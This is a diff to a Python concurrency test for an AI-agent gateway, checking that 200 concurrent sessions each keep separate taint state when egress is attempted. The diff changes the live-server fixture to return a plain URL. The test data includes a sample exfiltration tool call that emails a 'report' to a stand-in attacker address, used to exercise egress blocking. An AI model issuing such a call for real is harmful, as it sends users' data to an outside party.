@@ -21,7 +21,7 @@ from starlette.applications import Starlette
 from fak_core.gateway.app import create_app
 from fak_core.gateway.state import GatewayState
 from fak_core.journal import Journal, read_rows, verify_files
-from tests.gateway.support import LiveServer, make_kernel
+from tests.gateway.support import make_kernel
 
 SESSIONS = 200
 EGRESS = {"tool": "send_email", "arguments": {"to": "mallory@evil.example", "body": "report"}}
@@ -82,18 +82,18 @@ async def _load(url: str, plan: list[tuple[str, bool]]) -> list[tuple[list[tuple
 
 
 def test_200_concurrent_sessions_keep_their_own_taint(
-    tmp_path: Path, live_server: Callable[[Starlette], LiveServer]
+    tmp_path: Path, live_server: Callable[[Starlette], str]
 ) -> None:
     state = GatewayState(make_kernel())
     journal = Journal(tmp_path / "iso.db")
     journal.attach(state.kernel)
     state.journal = journal
-    server = live_server(create_app(state, mcp=False))
+    url = live_server(create_app(state, mcp=False))
     rng = random.Random(7)
     plan = [(f"iso-{i}", i % 2 == 0) for i in range(SESSIONS)]
     rng.shuffle(plan)
 
-    got = asyncio.run(_load(server.url, plan))
+    got = asyncio.run(_load(url, plan))
 
     tainted_egress = clean_egress = 0
     for (trace, tainted), (verdicts, taint) in zip(plan, got, strict=True):
